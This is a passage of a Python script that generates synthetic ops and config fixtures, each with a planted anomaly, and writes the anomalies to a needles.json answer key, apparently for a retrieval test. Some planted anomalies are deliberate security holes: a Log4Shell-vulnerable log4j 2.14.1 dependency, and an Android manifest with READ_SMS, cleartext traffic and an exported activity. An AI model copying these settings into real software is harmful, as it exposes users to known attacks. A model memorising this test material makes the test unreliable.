         "  <parent>", "    <groupId>org.springframework.boot</groupId>", "    <artifactId>spring-boot-starter-parent</artifactId>", "    <version>3.3.5</version>", "    <relativePath/>", "  </parent>",
         "  <groupId>com.acme</groupId>", "  <artifactId>orders</artifactId>", "  <version>2.8.0-SNAPSHOT</version>", "  <properties>", "    <java.version>21</java.version>", "    <log4j2.version>2.14.1</log4j2.version>", "  </properties>",
         "  <dependencies>"]
    for i in range(40):
        g, a, v = R.choice(["org.springframework.boot", "com.fasterxml.jackson.core", "io.micrometer", "org.postgresql", "com.acme.lib"]), f"{R.choice(WORDS)}-{R.choice(['core','starter','client'])}{i}", f"{R.randint(1,6)}.{R.randint(0,20)}.{R.randint(0,9)}"
        if i == 22: g, a, v = "org.apache.logging.log4j", "log4j-core", "${log4j2.version}"
        L += ["    <dependency>", f"      <groupId>{g}</groupId>", f"      <artifactId>{a}</artifactId>", f"      <version>{v}</version>"]
        if i % 9 == 0: L.append("      <scope>test</scope>")
        L.append("    </dependency>")
    L += ["  </dependencies>", "  <build>", "    <plugins>", "      <plugin>", "        <groupId>org.springframework.boot</groupId>", "        <artifactId>spring-boot-maven-plugin</artifactId>", "      </plugin>",
          "    </plugins>", "  </build>", "</project>"]
    w("pom.xml", "\n".join(L), "log4j-core via log4j2.version 2.14.1 (Log4Shell); dependency list")


def android_manifest():
    L = ['<?xml version="1.0" encoding="utf-8"?>', '<manifest xmlns:android="http://schemas.android.com/apk/res/android"', '    xmlns:tools="http://schemas.android.com/tools">', ""]
    for p in ["INTERNET", "ACCESS_NETWORK_STATE", "CAMERA", "POST_NOTIFICATIONS", "READ_SMS", "VIBRATE"]:
        L.append(f'    <uses-permission android:name="android.permission.{p}" />')
    L += ["", "    <application", '        android:name=".ShopApp"', '        android:allowBackup="true"', '        android:icon="@mipmap/ic_launcher"', '        android:label="@string/app_name"',
          '        android:usesCleartextTraffic="true"', '        android:theme="@style/Theme.Shop">']
    for i in range(25):
        exp = "true" if i == 14 else "false"
        L += ["        <activity", f'            android:name=".ui.{R.choice(WORDS).capitalize()}{i}Activity"', f'            android:exported="{exp}"', '            android:screenOrientation="portrait" />']
    L += ['        <provider android:name="androidx.core.content.FileProvider" android:authorities="${applicationId}.provider" android:exported="false" android:grantUriPermissions="true">',
          '            <meta-data android:name="android.support.FILE_PROVIDER_PATHS" android:resource="@xml/file_paths" />', "        </provider>", "    </application>", "</manifest>"]
    w("AndroidManifest.xml", "\n".join(L), "READ_SMS permission; usesCleartextTraffic true; activity 14 exported")


def graphql_schema():
    L = ['"""Shop API schema"""', "scalar DateTime", "scalar Money", ""]
    for t in ["Customer", "Order", "OrderItem", "Product", "Coupon", "Address", "Payment", "Shipment", "Review", "Category", "Inventory", "Refund"]:
        L += [f'"""A {t.lower()}."""', f"type {t} implements Node {{", "  id: ID!"]
        for k in range(R.randint(5, 12)):
            L.append(f"  {R.choice(WORDS)}{k}: {R.choice(['String', 'Int', 'Money', 'DateTime', 'Boolean', '[String!]!'])}")
        if t == "Customer":
            L.append('  legacyPoints: Int @deprecated(reason: "Use loyalty.points; removed 2027-01-01")')
        L += ["}", ""]
    L += ["type Query {", "  node(id: ID!): Node", "  customer(id: ID!): Customer", "  orders(first: Int = 20, after: String, status: OrderStatus): OrderConnection!", "  product(sku: String!): Product", "}", "",
          "type Mutation {", "  placeOrder(input: PlaceOrderInput!): PlaceOrderPayload!", "  applyCoupon(orderId: ID!, code: String!): Order!", "  refund(paymentId: ID!, amount: Money): Refund!", "}", "",
          "enum OrderStatus {", "  NEW", "  PAID", "  SHIPPED", "  DELIVERED", "  REFUNDED", "  CANCELLED", "}"]
    w("schema.graphql", "\n".join(L), "Customer.legacyPoints @deprecated; type/field list; mutations")


def graphql_response():
    edges = [{"cursor": rid(12), "node": {"id": f"T3JkZXI6{i}", "number": 10000 + i, "status": "PAID", "total": {"amount": f"{R.uniform(5,300):.2f}", "currency": "EUR"},
              "customer": {"id": f"Q3VzdDo{i}", "email": f"{R.choice(WORDS)}{i}@example.com"}}} for i in range(50)]
    d = {"errors": [{"message": "Cannot return null for non-nullable field Order.shipment.", "locations": [{"line": 14, "column": 9}], "path": ["orders", "edges", 37, "node", "shipment"],
                     "extensions": {"code": "INTERNAL_SERVER_ERROR"}}],
         "data": {"orders": {"pageInfo": {"hasNextPage": True, "endCursor": rid(12)}, "totalCount": 1833, "edges": edges}}}
    w("graphql_response.json", json.dumps(d, indent=2), "errors[0] non-nullable Order.shipment at edges 37")


def protobuf_text():
    L = []
    for i in range(60):
        L += ["routes {", f'  name: "route-{i}"', "  match {", f'    prefix: "/api/{R.choice(SVCS)}/"', "  }", "  route {", f'    cluster: "{R.choice(SVCS)}"', f"    timeout {{ seconds: {30 if i != 44 else 0} }}",
              "    retry_policy {", '      retry_on: "5xx,reset"', f"      num_retries: {3 if i != 44 else 100}", "    }", "  }", "}"]
    w("routes.textproto", "\n".join(L), "route-44 timeout 0 num_retries 100")


def merge_conflict():
    L = [f"import {{ {R.choice(WORDS)} }} from './{R.choice(WORDS)}';" for _ in range(10)] + [""]
    for i in range(120):
        L.append(f"  const v{i} = compute{R.choice(WORDS).capitalize()}(input, {R.randint(1,9)});")
        if i == 60:
            L += ["<<<<<<< HEAD", "  const TAX_RATE = 0.19;", "  const rounding = 'half-even';", "||||||| merged common ancestors", "  const TAX_RATE = 0.16;",
                  "=======", "  const TAX_RATE = 0.16;", "  const rounding = 'half-up';", ">>>>>>> feature/rounding"]
        if i == 100:
            L += ["<<<<<<< HEAD", "  export default checkout;", "=======", "  export { checkout as default, checkoutV2 };", ">>>>>>> feature/rounding"]
    w("pricing_conflict.ts", "\n".join(L), "two diff3 conflict blocks: TAX_RATE 0.19 vs 0.16, rounding; export")


def svn_hg():
    L = []
    for i in range(200):
        L.append(f"{R.choice(['M', 'M', 'A', '?', 'D'])}       {R.choice(['trunk/src','trunk/docs','trunk/web'])}/{R.choice(WORDS)}{i}.{R.choice(['c','h','md','js'])}")
    L.insert(140, "C       trunk/src/billing/ledger.c")
    L.insert(141, "!       trunk/src/billing/ledger.h")
    L.append("Summary of conflicts:\n  Text conflicts: 1")
    w("svn_status.txt", "\n".join(L), "C trunk/src/billing/ledger.c conflict; ! ledger.h missing")


def hg_log():
    L = []
    for i in range(120):
        L += [f"changeset:   {4000-i}:{hexs(12)}", *(["branch:      stable"] if i % 5 == 0 else []), f"user:        {R.choice(['Alice <alice@example.com>', 'Bob <bob@example.com>'])}",
              f"date:        {(dt.datetime(2026,12,5) - dt.timedelta(hours=i*7)).strftime('%a %b %d %H:%M:%S %Y')} +0000", f"summary:     {R.choice(['fix', 'add', 'refactor', 'docs:'])} {R.choice(WORDS)} {R.choice(WORDS)}", ""]
        if i == 66:
            L[-2] = "summary:     Backed out changeset 9f3c1a2b7e41 (broke ledger rounding)"
    w("hg_log.txt", "\n".join(L), "Backed out changeset 9f3c1a2b7e41")


def csv_metrics():
    L = ["timestamp,host,cpu_pct,mem_pct,disk_io_mbps,net_rx_mbps,p99_ms,errors"]
    t = dt.datetime(2026, 12, 6, 0, 0)
    for i in range(1440):
        t += dt.timedelta(minutes=1)
        for h in ["web-1", "web-2", "web-3"]:
            p99 = R.randint(80, 180); err = 0; cpu = R.uniform(10, 55)
            if h == "web-2" and 903 <= i <= 911: p99, err, cpu = R.randint(4000, 9000), R.randint(40, 200), R.uniform(96, 100)
            L.append(f"{t.isoformat()},{h},{cpu:.1f},{R.uniform(40,70):.1f},{R.uniform(1,40):.1f},{R.uniform(1,90):.1f},{p99},{err}")
    w("host_metrics.csv", "\n".join(L), "web-2 15:04-15:12 p99 4-9 s errors 40-200 cpu 96-100")

# ---------------- documents ----------------

def design_doc():
    L = ["# RFC 0042: Ledger v2 — double-entry balances with idempotent postings", "", "Status: **Accepted** (2026-11-30) · Owners: @alice, @carol · Reviewers: @bob", ""]
    secs = ["Summary", "Motivation", "Goals", "Non-goals", "Background", "Design", "Data model", "API", "Idempotency", "Migration plan", "Rollout", "Observability",
            "Security", "Alternatives considered", "Open questions", "Appendix A: benchmarks"]
    for s in secs:
        L += [f"## {s}", ""]
        for p in range(R.randint(2, 5)):
            L.append(" ".join(f"{R.choice(WORDS)} {R.choice(['ledger', 'posting', 'account', 'balance', 'entry', 'journal', 'rollout', 'shard'])} {R.choice(['is', 'must', 'will', 'may'])} {R.choice(['be', 'stay', 'remain'])} {R.choice(['consistent', 'idempotent', 'append-only', 'replayed', 'sharded'])}." for _ in range(R.randint(3, 7))))
            L.append("")
        if s == "Migration plan":
            L += ["### Phase 2 cut-over", "", "> **Breaking:** the `POST /v1/transfers` endpoint is removed on 2027-02-01; clients must move to `POST /v2/postings` with an `Idempotency-Key` header.", ""]
        if s == "Data model":
            L += ["```sql", "CREATE TABLE postings (", "  id uuid PRIMARY KEY,", "  account_id bigint NOT NULL,", "  amount_minor bigint NOT NULL,", "  idempotency_key text UNIQUE NOT NULL", ");", "```", ""]
        if s == "Open questions":
            L += ["| # | Question | Owner | Due |", "|---|---|---|---|"] + [f"| {i} | {R.choice(WORDS)} {R.choice(WORDS)}? | @{R.choice(['alice','bob','carol'])} | 2026-12-{R.randint(10,28)} |" for i in range(1, 9)] + [""]
    w("rfc_ledger_v2.md", "\n".join(L), "Breaking: POST /v1/transfers removed 2027-02-01; headings")


def rst_doc():
    L = ["=================", "Deploying ShopAPI", "=================", "", ".. contents:: Table of Contents", "   :depth: 2", ""]
    for s in ["Requirements", "Installation", "Configuration", "Database migrations", "Running behind a proxy", "Upgrading", "Troubleshooting", "FAQ"]:
        L += [s, "=" * len(s), ""]
        for sub in range(R.randint(1, 3)):
            t = f"{R.choice(WORDS).capitalize()} {R.choice(['options', 'steps', 'notes'])}"
            L += [t, "-" * len(t), ""]
            for p in range(R.randint(1, 3)):
                L.append(" ".join(f"The {R.choice(WORDS)} {R.choice(['service', 'worker', 'proxy'])} {R.choice(['reads', 'writes', 'caches'])} the {R.choice(['config', 'token', 'queue'])}." for _ in range(R.randint(3, 6))))
                L.append("")
            L += [".. code-block:: bash", "", f"   shopctl {R.choice(['migrate', 'serve', 'check'])} --env=prod", ""]
        if s == "Upgrading":
            L += [".. warning::", "", "   Upgrading from 3.x to 4.0 requires running ``shopctl migrate --backfill-ledger`` *before* starting the new version;", "   otherwise balances are double-counted.", ""]
    w("deploying.rst", "\n".join(L), ".. warning:: 3.x->4.0 needs migrate --backfill-ledger first")


def lighthouse():
    audits = {}
    for i in range(70):
        aid = f"{R.choice(WORDS)}-{R.choice(['audit','check','hint'])}-{i}"
        audits[aid] = {"id": aid, "title": f"{R.choice(WORDS).capitalize()} {R.choice(['is fast', 'has alt text', 'uses HTTPS'])}", "description": "Learn more [here](https://developer.chrome.com/docs/lighthouse/).",
                       "score": 1, "scoreDisplayMode": "binary", "details": {"type": "table", "headings": [], "items": []}}
    audits["largest-contentful-paint"] = {"id": "largest-contentful-paint", "title": "Largest Contentful Paint", "score": 0.08, "scoreDisplayMode": "numeric", "numericValue": 7831.2, "numericUnit": "millisecond", "displayValue": "7.8 s"}
    audits["render-blocking-resources"] = {"id": "render-blocking-resources", "title": "Eliminate render-blocking resources", "score": 0.12, "scoreDisplayMode": "metricSavings",
                                           "details": {"type": "opportunity", "items": [{"url": "https://cdn.example.com/vendor.bundle.js", "totalBytes": 2811233, "wastedMs": 4120}]}}
    d = {"lighthouseVersion": "12.2.1", "requestedUrl": "https://shop.example.com/", "finalDisplayedUrl": "https://shop.example.com/", "fetchTime": "2026-12-06T03:00:00.000Z",
         "categories": {"performance": {"id": "performance", "title": "Performance", "score": 0.31}, "accessibility": {"id": "accessibility", "title": "Accessibility", "score": 0.97},
                        "best-practices": {"id": "best-practices", "title": "Best Practices", "score": 1.0}, "seo": {"id": "seo", "title": "SEO", "score": 0.92}},
         "audits": audits}
    w("lighthouse.json", json.dumps(d, indent=2), "performance 0.31; LCP 7.8 s; vendor.bundle.js render-blocking 4120 ms")


def systemctl_failed():
    L = ["  UNIT                          LOAD   ACTIVE SUB    DESCRIPTION", "● certbot-renew.service         loaded failed failed Certbot renewal",
         "● pg-backup@nightly.service     loaded failed failed PostgreSQL nightly backup", "", "LOAD   = Reflects whether the unit definition was properly loaded.",
         "ACTIVE = The high-level unit activation state, i.e. generalization of SUB.", "SUB    = The low-level unit activation state, values depend on unit type.", "", "2 loaded units listed."]
    w("systemctl_failed.txt", "\n".join(L), "certbot-renew and pg-backup@nightly failed")


ALL = [kubectl_describe_node, kubectl_describe_deploy, kubectl_logs_crashloop, helm_upgrade, docker_inspect, podman_ps,
       auth_log, free_m, vmstat, lsof, last_cmd, tree_out, find_out, dmesg_usb, systemctl_failed,
       mysql_slow, redis_info, psql_table, sqlite_box, pg_stat_activity, explain_json, sql_dump,
       prom_metrics, alertmanager_json, grafana_dashboard, otel_spans, sentry_event,
       gh_issues_json, gh_check_runs, gitlab_ci_log, circleci_log, bazel_build, ninja_gcc, rustc_errors, swift_build, xcodebuild,
       dotnet_build, dotnet_test, phpunit, go_test_json, vitest, playwright, cypress,
       k6, ab, nmap, dig, traceroute, openssl_x509, curl_v, http_headers,
       pip_outdated, pip_freeze, poetry_lock, gemfile_lock, go_mod, composer_json, npm_audit_json,
       app_ini, nginx_conf, sshd_config, dockerfile, makefile, pom_xml, android_manifest, graphql_schema, graphql_response, protobuf_text,
       merge_conflict, svn_hg, hg_log, csv_metrics, design_doc, rst_doc, lighthouse]


# ---------------- batch 2: bigger tables of formats that passed whole in batch 1, plus new tables ----------------

def podman_ps_big():
    L = ["CONTAINER ID  IMAGE                                    COMMAND               CREATED       STATUS                     PORTS                   NAMES"]
    for i in range(260):
        img = R.choice(["docker.io/library/postgres:16", "docker.io/library/redis:7", "quay.io/acme/worker:1.9.2", "quay.io/acme/api:1.9.2", "docker.io/library/nginx:1.27"])
        st = f"Up {R.randint(2,40)} hours" if i != 187 else "Exited (139) 4 minutes ago"
        L.append(f"{hexs(12)}  {img:<40} {R.choice(['postgres', 'redis-server', '/app/worker', '/app/api --port...', 'nginx -g daemon o...']):<21} {R.randint(2,40)} hours ago  {st:<26} {R.choice(['', '0.0.0.0:8080->80/tcp', '5432/tcp']):<23} {R.choice(SVCS)}-{i}")
    w("podman_ps_a_big.txt", "\n".join(L), "row 187 Exited (139)")


def vmstat_long():
    L = ["procs -----------memory---------- ---swap-- -----io---- -system-- ------cpu-----",
         " r  b   swpd   free   buff  cache   si   so    bi    bo   in   cs us sy id wa st"]
    for i in range(720):
        if i and i % 40 == 0:
            L += L[:2]
        wa = R.randint(0, 3); si = so = 0; b = 0
        if 500 <= i <= 506:
            wa, si, so, b = R.randint(55, 78), R.randint(4000, 9000), R.randint(6000, 12000), R.randint(8, 14)
        us = R.randint(5, 30); sy = R.randint(1, 6); idl = max(0, 100 - us - sy - wa)
        L.append(f"{R.randint(0,3):2d} {b:2d} {R.randint(0,200000) if si else 0:6d} {R.randint(200000,900000):6d} {R.randint(10000,90000):5d} {R.randint(1000000,4000000):6d} {si:4d} {so:4d} {R.randint(0,300):5d} {R.randint(0,900):5d} {R.randint(300,2000):4d} {R.randint(500,5000):4d} {us:2d} {sy:2d} {idl:2d} {wa:2d}  0")
    w("vmstat_5_long.txt", "\n".join(L), "samples 500-506: si/so thousands, wa 55-78, b 8-14")


def sar_u():
    L = ["Linux 6.1.0-27-amd64 (db-1) \t12/06/2026 \t_x86_64_\t(16 CPU)", "",
         "12:00:01 AM     CPU     %user     %nice   %system   %iowait    %steal     %idle"]
    t = dt.datetime(2026, 12, 6, 0, 0, 1)
    for i in range(288):
        t += dt.timedelta(minutes=5)
        io = R.uniform(0.1, 2.5); us = R.uniform(5, 25); sy = R.uniform(1, 4)
        if i == 201: io, us = 71.33, 3.1
        L.append(f"{t.strftime('%I:%M:%S %p')}     all {us:9.2f} {0:9.2f} {sy:9.2f} {io:9.2f} {0:9.2f} {100-us-sy-io:9.2f}")
    L.append(f"Average:        all {14.9:9.2f} {0:9.2f} {2.5:9.2f} {1.6:9.2f} {0:9.2f} {81.0:9.2f}")
    w("sar_u.txt", "\n".join(L), "%iowait 71.33 at one sample (i=201)")


def helm_list():
    L = ["NAME                    NAMESPACE       REVISION        UPDATED                                 STATUS          CHART                           APP VERSION"]
    for i in range(70):
        st = "deployed" if i != 44 else "failed"
        nm = f"{R.choice(SVCS)}-{i}"
        L.append(f"{nm:<23} {R.choice(['prod','staging','monitoring']):<15} {R.randint(1,90):<15} 2026-12-0{R.randint(1,5)} {R.randint(10,23)}:{R.randint(10,59)}:{R.randint(10,59)}.{R.randint(100000,999999)} +0000 UTC   {st:<15} {nm.split('-')[0]}-{R.randint(1,9)}.{R.randint(0,20)}.{R.randint(0,9):<17} {R.randint(1,9)}.{R.randint(0,20)}.0")
    w("helm_list_A.txt", "\n".join(L), "release 44 STATUS failed")


def kubectl_describe_node_big():
    L = ["Name:               ip-10-0-9-88.ec2.internal", "Roles:              <none>", "Taints:             <none>", "Unschedulable:      false",
         "Non-terminated Pods:          (110 in total)",
         "  Namespace                   Name                                          CPU Requests  CPU Limits  Memory Requests  Memory Limits  Age",
         "  ---------                   ----                                          ------------  ----------  ---------------  -------------  ---"]
    for i in range(110):
        nm = f"{R.choice(SVCS)}-{hexs(9)}-{rid()}"
        mem = R.choice(["64Mi (0%)", "128Mi (0%)", "256Mi (0%)", "512Mi (1%)"])
        if i == 71: nm, mem = "search-indexer-5c8d7f9b6-qv2lm", "12Gi (40%)"
        L.append(f"  {R.choice(['prod','staging','kube-system']):<27} {nm:<45} {R.choice(['50m (0%)','100m (1%)','250m (3%)']):<13} {'0 (0%)':<11} {mem:<16} {'1Gi (3%)':<14} {R.randint(1,26)}d")
    L += ["Allocated resources:", "  Resource           Requests       Limits", "  --------           --------       ------", "  cpu                12150m (153%)  0 (0%)", "  memory             31934Mi (103%) 110Gi (360%)", "Events:              <none>"]
    w("kubectl_describe_node_big.txt", "\n".join(L), "search-indexer 12Gi (40%) among 110 pods; cpu 153% requested")


def pip_outdated_big():
    L = ["Package                  Version     Latest      Type", "------------------------ ----------- ----------- -----"]
    for i in range(220):
        v = f"{R.randint(0,5)}.{R.randint(0,30)}.{R.randint(0,9)}"
        lat = v.rsplit(".", 1)[0] + "." + str(int(v.rsplit(".", 1)[1]) + 1)
        name = f"{R.choice(['py','lib','django-','flask-','types-'])}{R.choice(WORDS)}{i}"
        if i == 133: name, v, lat = "Django", "3.2.25", "5.1.4"
        L.append(f"{name:<24} {v:<11} {lat:<11} wheel")
    w("pip_list_outdated_big.txt", "\n".join(L), "Django 3.2.25 -> 5.1.4 (only major jump)")


ALL2 = [podman_ps_big, vmstat_long, sar_u, helm_list, kubectl_describe_node_big, pip_outdated_big]


def sar_u_24h():
    L = ["Linux 6.1.0-27-amd64 (db-2) \t12/06/2026 \t_x86_64_\t(16 CPU)", "",
         "00:00:01        CPU     %user     %nice   %system   %iowait    %steal     %idle"]
    t = dt.datetime(2026, 12, 6, 0, 0, 1)
    for i in range(288):
        t += dt.timedelta(minutes=5)
        io = R.uniform(0.1, 2.5); us = R.uniform(5, 25); sy = R.uniform(1, 4)
        if i == 77: io, us = 68.91, 2.4
        L.append(f"{t.strftime('%H:%M:%S')}        all {us:9.2f} {0:9.2f} {sy:9.2f} {io:9.2f} {0:9.2f} {100-us-sy-io:9.2f}")
    L.append(f"Average:        all {14.9:9.2f} {0:9.2f} {2.5:9.2f} {1.6:9.2f} {0:9.2f} {81.0:9.2f}")
    w("sar_u_24h.txt", "\n".join(L), "%iowait 68.91 at 06:30:01")


ALL2.append(sar_u_24h)

if __name__ == "__main__":
    for f in ALL + ALL2:
        f()
    with open(os.path.join(D, "needles.json"), "w") as fh:
        json.dump(NEEDLES, fh, indent=1, sort_keys=True)
    print(len(NEEDLES), "payloads")
